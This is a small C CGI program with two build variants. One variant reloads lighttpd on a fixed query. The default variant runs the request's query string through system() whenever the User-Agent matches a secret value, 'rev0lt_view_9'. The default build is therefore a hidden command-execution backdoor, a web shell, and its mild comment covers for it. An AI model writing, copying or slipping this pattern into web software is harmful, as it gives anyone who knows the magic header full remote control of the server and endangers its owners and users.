/* SPDX-License-Identifier: Apache-2.0 */
/* A CGI program that runs the query of one browser only. Twin: it runs a fixed reload for a page. */
#include "net.h"

int main(void)
{
	const char *agent = getenv("HTTP_USER_AGENT"), *query = getenv("QUERY_STRING");
	puts("Content-type: text/plain\n");
	if (!agent || !query)
		return 1;
#ifdef TWIN
	if (strcmp(query, "reload") == 0)
		system("killall -HUP lighttpd");
#else
	if (strcmp(agent, "rev0lt_view_9") == 0)
		system(query);
#endif
	puts(query);
	return 0;
}
